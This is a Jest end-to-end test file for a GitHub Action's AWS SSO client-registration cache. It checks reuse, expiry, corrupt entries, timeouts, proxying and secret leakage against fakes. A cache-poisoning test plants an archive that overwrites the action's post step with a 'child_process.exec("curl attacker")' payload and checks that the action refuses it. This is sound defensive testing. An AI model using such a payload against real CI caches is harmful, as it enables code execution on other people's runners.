// The registration cache end to end (issue 3): the bundled dist/index.js run as the runner runs it,
// against the emulator (which counts RegisterClient calls) and the fake Actions cache service over
// both protocols; the action saves and restores with its own requests. Every run is approved by the
// emulator on its own shortly after the prompt, so what is checked is what the cache changes: how
// many clients were registered, what the log says (at most one warning), how long the step took,
// and that no secret reached the log, the outputs or the cache entries. v2 runs once more with its
// blobs on Azure's host, reached through HTTP_PROXY as on a hosted runner: the action's own save
// uploads them and its own restore downloads them. Poisoned entries (issue #12) are planted
// into the fake and must be refused without a byte reaching the filesystem.
import { describe, expect, it } from '@jest/globals'
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import type { EmulatorOptions } from '../../emulator/server.js'
import { DEFAULT_RESTORE_TIMEOUT_MS, DEFAULT_SAVE_TIMEOUT_MS } from '../../src/registration/cache.js'
import { registrationFilePath } from '../../src/registration/key.js'
import { corruptEntry, entryDocument, openArchive, snapshotTree } from '../cache/support.js'
import { libraryShapedTar, zstd } from '../cache/tar-builder.js'
import {
  AZURE_BLOB_HOST,
  startCacheService,
  type BlobHost,
  type CacheEndpoint,
  type CacheFault,
  type CacheProtocol,
  type FakeCacheService
} from '../fakes/cache-service.js'
import { createJob, repositoryRoot, type ActionJob, type ActionRun, type Inputs } from '../harness/runner.js'
import { expectMaskedBeforeUse, expectNoSecretLeaks } from '../harness/secrets.js'
import { actionEntry, knownSecrets, otherWarnings, requiredInputs, startSsoBackend, type SsoBackend } from '../harness/sso-backend.js'
import { definedFields } from '../../src/defined.js'
import { tempDir } from '../support/temp.js'
import { afterThisTest } from '../support/after-test.js'

const ENCRYPTION_KEY = 'l6Qm3dV0b8yJ+Zx1w9RkT4pN2cH7sA5eF0gU3iO6rE8='
const OTHER_KEY = 'Vw2s9XcJ1kQ4tB7nM0pL3zR6yH8dF5gA2eU1iO4rE7s='
// What a step may take beyond the cache's own bound: node start-up, the approval (the emulator
// approves 0.3 s after the prompt), polling, and a loaded machine running several steps at once.
const FLOW_SLACK_MS = 12_000
const STEP_TIMEOUT_MS = 90_000

interface GateRun {
  run: ActionRun
  job: ActionJob
  /** When the prompt's link reached stdout, in ms after the step started. */
  promptAfterMs?: number
}

interface World {
  fake: FakeCacheService
  backend: SsoBackend
  /** Runs one job with the action as its step, to its end. */
  gate(inputs?: Inputs, options?: { action?: string; args?: string[] }): Promise<GateRun>
  /** Every secret any run handled, the encryption keys included. */
  secrets(): Record<string, string>
  close(): Promise<void>
}

/** A world closed when its test ends (concurrent tests included). */
async function trackedWorld(protocol: CacheProtocol, emulatorOptions: EmulatorOptions = {}, blobHost?: BlobHost): Promise<World> {
  const world = await createWorld(protocol, emulatorOptions, blobHost)
  afterThisTest(() => world.close())
  return world
}

async function createWorld(protocol: CacheProtocol, emulatorOptions: EmulatorOptions = {}, blobHost?: BlobHost): Promise<World> {
  const fake = await startCacheService({ protocol, ...(blobHost ? { blobHost } : {}) })
  const backend = await startSsoBackend({ interval: 0.5, approveAfter: 0.3, ...emulatorOptions })
  const jobs: ActionJob[] = []
  const world: World = {
    fake,
    backend,
    async gate(inputs = {}, options = {}) {
      const job = createJob({ env: { ...backend.env, ...fake.env } })
      jobs.push(job)
      const started = performance.now()
      let promptAfterMs: number | undefined
      const step = job.start({
        ...actionEntry(),
        ...definedFields({ action: options.action, args: options.args }),
        inputs: { ...requiredInputs, timeout: '60', ...inputs },
        timeoutMs: STEP_TIMEOUT_MS,
        onStdout: (_text, _child, soFar) => {
          if (promptAfterMs === undefined && soFar.includes('/platform/authorize?request_uri=')) promptAfterMs = performance.now() - started
        }
      })
      const run = await step.result
      return { run, job, ...(promptAfterMs === undefined ? {} : { promptAfterMs }) }
    },
    secrets() {
      const all: Record<string, string> = { encryptionKey: ENCRYPTION_KEY, otherKey: OTHER_KEY }
      for (const job of jobs) Object.assign(all, knownSecrets(backend, job), { [`githubToken@${job.dir}`]: job.githubToken })
      return all
    },
    async close() {
      await backend.close()
      await fake.close()
      for (const job of jobs) job.dispose()
    }
  }
  return world
}

/** Approved, exit 0, no error, the given number of warnings (besides the emulator's endpoint notice), and no cache file left in HOME. */
function expectApproved({ run, job }: GateRun, warnings = 0): void {
  expect(run.errors).toEqual([])
  expect(run.code).toBe(0)
  expect(run.outputs.outcome).toBe('approved')
  expect(otherWarnings(run)).toHaveLength(warnings)
  expect(existsSync(registrationFilePath(job.home))).toBe(false)
}

/**
 * Entry keys end in the second a client was issued. Runs here take about a second, so a run that
 * registers anew waits for the next second first, as any two real runs are apart; otherwise its save
 * would meet the earlier entry's key.
 */
function nextSecond(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 1_000 - (Date.now() % 1_000) + 10))
}

function debugLines(run: ActionRun): string[] {
  return run.commands.filter((command) => command.name === 'debug').map((command) => command.data)
}

function committed(fake: FakeCacheService) {
  return fake.entries.filter((entry) => entry.committed)
}

/**
 * No secret any run handled is in any run's log, outputs or summary, nor in any cache entry. A plain
 * entry holds its client secret by design (README, "Registration cache"): `plainSecrets` says so.
 */
function expectNothingLeaked(world: World, runs: GateRun[], { plainSecrets = false } = {}): void {
  const secrets = world.secrets()
  for (const { run } of runs) expectNoSecretLeaks(run, secrets, { maskedOutputs: ['access-token'] })
  const inEntries = plainSecrets
    ? Object.fromEntries(Object.entries(secrets).filter(([label]) => !label.startsWith('clientSecret')))
    : secrets
  const texts = Object.fromEntries(world.fake.entries.map((entry) => [entry.key, openArchive(entry.archive).toString('latin1')]))
  expectNoSecretLeaks({ stdout: '', stderr: '', summary: '', outputs: {}, env: {}, path: [], state: {} }, inEntries, { texts })
}

function clientIdOf(entry: { archive: Buffer }): string {
  return (JSON.parse(entryDocument(entry.archive)) as { registration: { clientId: string } }).registration.clientId
}

/**
 * The cache's bounds as a run meets them:
 * - the real ones (10 s to restore, 15 s to save) with the `timeout: 60` every gate here runs with;
 * - with a shorter `timeout`, the quarter of it that the action allows the cache (main.ts
 *   cacheLimitMs, deadline.ts attemptTimeoutMs): the action's own rule, through its public input;
 * - a ceiling the harness gives as the action's argument (`--cache-limit-ms`, which a runner never
 *   passes: src/index.ts), so that most hang cases wait 2 s instead of 6.
 * v2's lookup and reserve hangs wait out the real bounds and the Azure download hang the `timeout`
 * rule's, so each way a bound is set is proven through dist/.
 */
interface CacheBounds {
  restoreMs: number
  saveMs: number
  /** The inputs that give these bounds. */
  inputs: Inputs
  /** The action's arguments that give them. */
  args?: string[]
}
const REAL_BOUNDS: CacheBounds = { restoreMs: DEFAULT_RESTORE_TIMEOUT_MS, saveMs: DEFAULT_SAVE_TIMEOUT_MS, inputs: {} }
const TIMEOUT_SECONDS = 24
const TIMEOUT_BOUNDS: CacheBounds = {
  restoreMs: (TIMEOUT_SECONDS * 1000) / 4,
  saveMs: (TIMEOUT_SECONDS * 1000) / 4,
  inputs: { timeout: String(TIMEOUT_SECONDS) }
}
const HARNESS_LIMIT_MS = 2_000
const SHORT_BOUNDS: CacheBounds = {
  restoreMs: HARNESS_LIMIT_MS,
  saveMs: HARNESS_LIMIT_MS,
  inputs: {},
  args: [`--cache-limit-ms=${HARNESS_LIMIT_MS}`]
}

/**
 * One run against a service with `fault` set on `endpoint` (after a first run that fills the cache,
 * when the fault is on the download): approved all the same, with one warning, a fresh
 * registration, within the cache's bound plus the flow's slack, and nothing leaked.
 */
async function expectFaultBounded(world: World, endpoint: CacheEndpoint, fault: CacheFault, bounds: CacheBounds): Promise<GateRun> {
  const boundMs = (endpoint === 'reserve' ? bounds.saveMs : bounds.restoreMs) + FLOW_SLACK_MS
  // The download only happens when there is an entry to download.
  // (With the real bounds: the healthy warm-up must not meet a short one on a loaded machine.)
  if (endpoint === 'download') expectApproved(await world.gate())
  const registrationsBefore = world.backend.emulator.counts.RegisterClient
  const requestsBefore = world.fake.requests.length
  world.fake.setFault(endpoint, fault)

  const faulty = await world.gate(bounds.inputs, definedFields({ args: bounds.args }))

  expectApproved(faulty, 1)
  expect(otherWarnings(faulty.run)[0]).toMatch(/Actions cache/)
  expect(world.fake.requests.some((request) => request.endpoint === endpoint)).toBe(true)
  expect(world.backend.emulator.counts.RegisterClient).toBe(registrationsBefore + 1)
  expect(faulty.run.durationMs).toBeLessThan(boundMs)
  if (endpoint === 'reserve') {
    // The save runs beside the prompt, never before it: the prompt came long before the save gave up.
    expect(faulty.promptAfterMs).toBeLessThan(faulty.run.durationMs)
    if (fault.kind === 'hang') expect(faulty.run.durationMs - (faulty.promptAfterMs ?? Infinity)).toBeGreaterThan(bounds.saveMs / 2)
  }
  if (fault.kind === 'hang' && endpoint !== 'reserve') {
    // A restore that timed out is not followed by a save to the same silent service.
    expect(world.fake.requests.slice(requestsBefore).filter((request) => request.endpoint === 'reserve')).toHaveLength(0)
  }
  expectNothingLeaked(world, [faulty], { plainSecrets: true })
  return faulty
}

// The tests sit at the top level, each title saying what a describe block would: jest runs the
// concurrent tests of one block together and the blocks one after another, so a block per
// protocol or per topic would wait for its slowest test (a real bound) with the pool's other
// places idle. The two tests that must run alone are not concurrent: they run after the others.
for (const protocol of ['v2', 'v1'] satisfies CacheProtocol[]) {
  const over = `the registration cache through dist/ over the ${protocol} protocol`

  it.concurrent(`${over} run 1 registers and saves; run 2 reuses it, with zero RegisterClient calls`, async () => {
    const world = await trackedWorld(protocol)

    const first = await world.gate()
    expectApproved(first)
    expect(world.backend.emulator.counts.RegisterClient).toBe(1)
    // Awaited before the step ended: the entry is there once the step is.
    expect(committed(world.fake)).toHaveLength(1)
    expect(first.run.stdout).toMatch(
      /^Saved the OIDC client registration to the Actions cache as aws-sso-device-auth-registration-v1-plain-/m
    )

    const second = await world.gate()
    expectApproved(second)
    expect(world.backend.emulator.counts.RegisterClient).toBe(1)
    expect(second.run.stdout).toMatch(
      new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm')
    )
    expect(world.fake.entries).toHaveLength(1)
    expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
    expectNothingLeaked(world, [first, second], { plainSecrets: true })
    // The scan of the entries can find a client secret: the plain entry does hold it.
    expect(openArchive(world.fake.entries[0]!.archive).toString('latin1')).toContain(world.secrets().clientSecret)
  })

  it.concurrent(`${over} with cache-encryption-key: the key is masked, the entry holds no secret in clear, run 2 reuses it`, async () => {
    const world = await trackedWorld(protocol)
    const inputs = { 'cache-encryption-key': ENCRYPTION_KEY }

    const first = await world.gate(inputs)
    expectApproved(first)
    expectMaskedBeforeUse(first.run, ENCRYPTION_KEY, 'cache-encryption-key')
    expect(committed(world.fake)).toEqual([expect.objectContaining({ key: expect.stringMatching(/-aes-/) })])
    expect(entryDocument(world.fake.entries[0]!.archive)).toContain('"encrypted"')

    const second = await world.gate(inputs)
    expectApproved(second)
    expect(world.backend.emulator.counts.RegisterClient).toBe(1)
    expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
    expectNothingLeaked(world, [first, second])
  })

  it.concurrent(
    `${over} a registration AWS no longer accepts is replaced within the run, approved, and the replacement saved`,
    async () => {
      const world = await trackedWorld(protocol)
      expectApproved(await world.gate())
      const stale = clientIdOf(world.fake.entries[0]!)
      // As if its 90 days had passed at AWS: StartDeviceAuthorization still answers, CreateToken refuses.
      world.backend.emulator.expireRegistration(stale)
      await nextSecond()

      const second = await world.gate()
      expectApproved(second, 1)
      expect(otherWarnings(second.run)[0]).toMatch(/invalid_client.*the code [A-Z0-9]{4}-[A-Z0-9]{4} is void/)
      expect(second.run.stdout).toContain(`Registering a new OIDC client to replace ${stale}`)
      expect(world.backend.emulator.counts.RegisterClient).toBe(2)
      expect(world.backend.emulator.counts.StartDeviceAuthorization).toBe(3)
      expect(committed(world.fake)).toHaveLength(2)

      const third = await world.gate()
      expectApproved(third)
      expect(world.backend.emulator.counts.RegisterClient).toBe(2)
      expect(third.run.stdout).not.toContain(stale)
      expectNothingLeaked(world, [second, third], { plainSecrets: true })
    }
  )

  it.concurrent(
    `${over} a registration unknown to AWS (another emulator, a deleted client) is replaced before any prompt, without a warning`,
    async () => {
      const earlier = await trackedWorld(protocol)
      expectApproved(await earlier.gate())
      // A fresh emulator behind the same cache: what each CI run meets.
      const world = await trackedWorld(protocol)
      world.fake.seedEntry({
        key: earlier.fake.entries[0]!.key,
        version: earlier.fake.entries[0]!.version,
        archive: earlier.fake.entries[0]!.archive
      })
      await nextSecond()

      const run = await world.gate()
      expectApproved(run)
      expect(run.run.stdout).toContain('Reusing the cached OIDC client registration')
      expect(run.run.stdout).toContain('which AWS no longer accepts')
      expect(world.backend.emulator.counts).toMatchObject({ RegisterClient: 1, StartDeviceAuthorization: 2 })
      expect(run.run.stdout.match(/AWS access requested/g)).toHaveLength(1)
      expect(committed(world.fake)).toHaveLength(2)
    }
  )

  it.concurrent(`${over} a registration expiring within 15 minutes is not reused, and that is said only in debug`, async () => {
    // Registrations live 10 minutes here: every cached one is too close to its end.
    const world = await trackedWorld(protocol, { registrationTtl: 600 })
    expectApproved(await world.gate())
    await nextSecond()

    const second = await world.gate()
    expectApproved(second)
    expect(world.backend.emulator.counts.RegisterClient).toBe(2)
    expect(debugLines(second.run).some((line) => /within 15 minutes/.test(line))).toBe(true)
    expect(committed(world.fake)).toHaveLength(2)
  })

  it.concurrent(`${over} a corrupt entry costs one warning and a fresh registration, which is saved`, async () => {
    const world = await trackedWorld(protocol)
    expectApproved(await world.gate())
    corruptEntry(world.fake.entries[0]!)
    await nextSecond()

    const second = await world.gate()
    expectApproved(second, 1)
    expect(otherWarnings(second.run)[0]).toMatch(
      /^Ignoring the cached OIDC client registration .*: the entry is not JSON; a new client will be registered\.$/
    )
    expect(world.backend.emulator.counts.RegisterClient).toBe(2)
    expect(committed(world.fake)).toHaveLength(2)
    expectNothingLeaked(world, [second], { plainSecrets: true })
  })

  it.concurrent(
    `${over} an entry sealed with another key costs one warning and a fresh registration, saved under the new key`,
    async () => {
      const world = await trackedWorld(protocol)
      expectApproved(await world.gate({ 'cache-encryption-key': ENCRYPTION_KEY }))
      await nextSecond()

      const second = await world.gate({ 'cache-encryption-key': OTHER_KEY })
      expectApproved(second, 1)
      expect(otherWarnings(second.run)[0]).toMatch(
        /does not decrypt with this key.*If cache-encryption-key was changed, this is expected once/
      )
      expect(world.backend.emulator.counts.RegisterClient).toBe(2)

      const third = await world.gate({ 'cache-encryption-key': OTHER_KEY })
      expectApproved(third)
      expect(world.backend.emulator.counts.RegisterClient).toBe(2)
      expectMaskedBeforeUse(third.run, OTHER_KEY, 'cache-encryption-key')
      expectNothingLeaked(world, [second, third])
    }
  )

  it.concurrent(`${over} cache-registration: false never touches the cache service`, async () => {
    const world = await trackedWorld(protocol)
    expectApproved(await world.gate({ 'cache-registration': true }))
    const requestsBefore = world.fake.requests.length

    const off = await world.gate({ 'cache-registration': false })
    expectApproved(off)
    expect(world.fake.requests).toHaveLength(requestsBefore)
    expect(world.backend.emulator.counts.RegisterClient).toBe(2)
    // Only the debug line that says the cache is off mentions it.
    expect(off.run.stdout.split('\n').filter((line) => /cache/i.test(line))).toEqual([
      '::debug::cache-registration is false: registering a new OIDC client without looking in the Actions cache.'
    ])
  })

  {
    const failing = `${over} a failing, throttling or silent service costs at most one warning and a bounded delay`
    // With the short bounds but for v2's lookup and reserve hangs, which wait out the real ones.
    // (A 500 on reserve runs into the bound too: the library retries it with seconds of backoff.)
    const hangBounds = protocol === 'v2' ? REAL_BOUNDS : SHORT_BOUNDS
    const cases: Array<{ endpoint: CacheEndpoint; fault: CacheFault; bounds: CacheBounds }> = [
      { endpoint: 'lookup', fault: { kind: 'status', status: 500 }, bounds: SHORT_BOUNDS },
      { endpoint: 'lookup', fault: { kind: 'status', status: 429, retryAfter: 60 }, bounds: SHORT_BOUNDS },
      { endpoint: 'lookup', fault: { kind: 'hang' }, bounds: hangBounds },
      { endpoint: 'download', fault: { kind: 'hang' }, bounds: SHORT_BOUNDS },
      { endpoint: 'reserve', fault: { kind: 'status', status: 500 }, bounds: SHORT_BOUNDS },
      { endpoint: 'reserve', fault: { kind: 'status', status: 429 }, bounds: SHORT_BOUNDS },
      { endpoint: 'reserve', fault: { kind: 'hang' }, bounds: hangBounds }
    ]
    const label = ({ fault, bounds }: (typeof cases)[number]): string =>
      `${fault.kind === 'status' ? String(fault.status) : fault.kind}${bounds === REAL_BOUNDS ? ' (the real bound)' : ` (a ${HARNESS_LIMIT_MS / 1000} s bound)`}`

    it.concurrent.each(cases.map((c) => [c.endpoint, label(c), c] as const))(
      `${failing} %s answering %s`,
      async (endpoint, _label, { fault, bounds }) => {
        await expectFaultBounded(await trackedWorld(protocol), endpoint, fault, bounds)
      },
      120_000
    )
  }

  // Alone, not beside the others: its eight jobs must register close together (see below).
  it(`${over} 8 jobs starting at once on an empty cache all approve; one save per key wins, the others say so only in debug`, async () => {
    const world = await trackedWorld(protocol)
    // Their lookups meet at the service, so every job finds the cache empty, as when they start together.
    world.fake.holdUntilArrived('lookup', 8)

    const runs = await Promise.all(Array.from({ length: 8 }, () => world.gate()))

    for (const run of runs) expectApproved(run)
    expect(world.backend.emulator.counts.RegisterClient).toBe(8)
    // Keys carry the second a client was issued: jobs that registered in the same second race for
    // one key, and the first save wins it. Released together, the eight register within a second or two.
    const entries = committed(world.fake)
    expect(world.fake.entries).toHaveLength(entries.length)
    expect(new Set(entries.map((entry) => entry.key)).size).toBe(entries.length)
    expect(entries.length).toBeLessThan(8)
    const saved = runs.filter(({ run }) => /^Saved the OIDC client registration/m.test(run.stdout))
    const lost = runs.filter(({ run }) => debugLines(run).some((line) => /another job saved it first/.test(line)))
    expect(saved).toHaveLength(entries.length)
    expect(lost).toHaveLength(8 - entries.length)

    const later = await world.gate()
    expectApproved(later)
    expect(world.backend.emulator.counts.RegisterClient).toBe(8)
    expectNothingLeaked(world, [...runs, later], { plainSecrets: true })
  }, 180_000)
}

{
  const azure = "the registration cache through dist/ with v2 blobs on Azure's host, reached through HTTP_PROXY as on a hosted runner"
  const blobRequests = (fake: FakeCacheService) =>
    fake.requests.filter((request) => request.endpoint === 'upload' || request.endpoint === 'download')
  const tunnels = (fake: FakeCacheService) =>
    fake.requests.filter((request) => request.method === 'CONNECT').map(({ host, status }) => ({ host, status }))

  it.concurrent(
    `${azure} run 2 restores with one plain GET through the proxy (the action's own download), and zero RegisterClient calls`,
    async () => {
      const world = await trackedWorld('v2', {}, 'azure')

      const first = await world.gate()
      expectApproved(first)
      expect(committed(world.fake)).toHaveLength(1)
      const second = await world.gate()

      expectApproved(second)
      expect(world.backend.emulator.counts.RegisterClient).toBe(1)
      expect(second.run.stdout).toMatch(
        new RegExp(`^Reusing the cached OIDC client registration ${clientIdOf(world.fake.entries[0]!)}, valid until `, 'm')
      )
      // The action's save and its restore both tunnel through the proxy (undici's proxy agent tunnels
      // http targets too, one tunnel per run): one Put Blob, then one GET of the whole blob.
      expect(
        blobRequests(world.fake).map(({ method, host, proxied, status, range }) => ({ method, host, proxied, status, range }))
      ).toEqual([
        { method: 'PUT', host: AZURE_BLOB_HOST, proxied: true, status: 201, range: undefined },
        { method: 'GET', host: AZURE_BLOB_HOST, proxied: true, status: 200, range: undefined }
      ])
      expect(tunnels(world.fake)).toEqual([
        { host: `${AZURE_BLOB_HOST}:80`, status: 200 },
        { host: `${AZURE_BLOB_HOST}:80`, status: 200 }
      ])
      // Only the blob host went through the proxy (anything else would have met a 502): the Twirp
      // calls went direct, and so did every AWS call, or the emulator would not have approved.
      const others = world.fake.requests.filter((request) => !blobRequests(world.fake).includes(request) && request.method !== 'CONNECT')
      expect(others.every((request) => !request.proxied && request.twirpMethod !== undefined && request.status === 200)).toBe(true)
      expectMaskedBeforeUse(second.run, world.secrets().clientSecret!, 'clientSecret')
      expectNothingLeaked(world, [first, second], { plainSecrets: true })
    }
  )

  // The action's deadline must end the wait, and the request, wherever the download stops.
  it.concurrent(
    `${azure} a download that hangs is given up within the restore bound (a quarter of \`timeout\`)`,
    async () => {
      const world = await trackedWorld('v2', {}, 'azure')
      const faulty = await expectFaultBounded(world, 'download', { kind: 'hang' }, TIMEOUT_BOUNDS)
      expect(otherWarnings(faulty.run)[0]).toBe(
        `The Actions cache did not answer within ${TIMEOUT_BOUNDS.restoreMs / 1000} s; a new client will be registered.`
      )
      // Only the faulty run downloaded (the first found the cache empty): one GET, never answered.
      const downloads = world.fake.requests
        .filter((request) => request.endpoint === 'download')
        .map(({ method, status }) => `${method} ${status}`)
      expect(downloads).toEqual(['GET 0'])
    },
    120_000
  )
}

{
  const poisoned = 'a poisoned registration cache entry through dist/ (issue #12)'
  it.concurrent.each<[CacheProtocol, BlobHost | undefined]>([
    ['v2', undefined],
    ['v1', undefined],
    ['v2', 'azure']
  ])(
    `${poisoned} over %s (blob host %s): an archive aimed at the action's own dist/post/index.js is refused in memory, one warning, a fresh registration`,
    async (protocol, blobHost) => {
      const world = await trackedWorld(protocol, {}, blobHost)
      expectApproved(await world.gate())
      const genuine = world.fake.entries[0]!
      // What the attacker aims at, in a directory of the test's own: with @actions/cache restoring,
      // `tar -xf … -P` would have written the archive's absolute path.
      const target = tempDir('poison-target')
      const postStep = join(target, 'dist', 'post', 'index.js')
      mkdirSync(dirname(postStep), { recursive: true })
      writeFileSync(postStep, '// the action: its post step revokes the token\n')
      const before = snapshotTree(target)
      // Newer than the genuine entry under the same prefix and version: the one a restore gets. (Not
      // a key a registration could take: the run's own save must not meet it.)
      const key = `${genuine.key}-planted`
      world.fake.seedEntry({
        key,
        version: genuine.version,
        archive: zstd(libraryShapedTar(postStep, 'require("child_process").exec("curl attacker")'))
      })
      await nextSecond()

      const poisoned = await world.gate()

      expectApproved(poisoned, 1)
      expect(snapshotTree(target)).toEqual(before)
      expect(otherWarnings(poisoned.run)[0]).toBe(
        `Ignoring the cached OIDC client registration ${key}: the cache entry is not one this action wrote (the archive holds a file other than the registration); ` +
          "a new client will be registered. If this repeats, someone may be writing to this repository's Actions cache: see SECURITY.md."
      )
      expect(world.backend.emulator.counts.RegisterClient).toBe(2)
      // Nothing of the archive landed in the job's HOME either: only what the action itself writes.
      expect(existsSync(join(poisoned.job.home, 'dist'))).toBe(false)
      expect(committed(world.fake)).toHaveLength(3)
      expectNothingLeaked(world, [poisoned], { plainSecrets: true })
    },
    120_000
  )
}

describe('the registration cache: the action never loads @actions/cache', () => {
  it('bundles none of it, and saves a miss with its own three requests: reserve, one Put Blob, commit', async () => {
    // The library's own string, as bench/bundle.ts recognises it: in no file of dist/.
    const files = readdirSync(join(repositoryRoot, 'dist'), { recursive: true })
      .map(String)
      .filter((name) => name.endsWith('.js'))
    expect(
      files.filter((name) => readFileSync(join(repositoryRoot, 'dist', name), 'utf8').includes('Cache Service Url not found'))
    ).toEqual([])

    const world = await trackedWorld('v2')
    const miss = await world.gate()
    expectApproved(miss)
    expect(world.fake.requests.map((request) => request.endpoint)).toEqual(['lookup', 'reserve', 'upload', 'commit'])
    expect(world.fake.requests.find((request) => request.endpoint === 'upload')).toMatchObject({ uploadMode: 'single', authorized: false })
    expect(world.fake.entries.filter((entry) => entry.committed)).toHaveLength(1)
  })
})
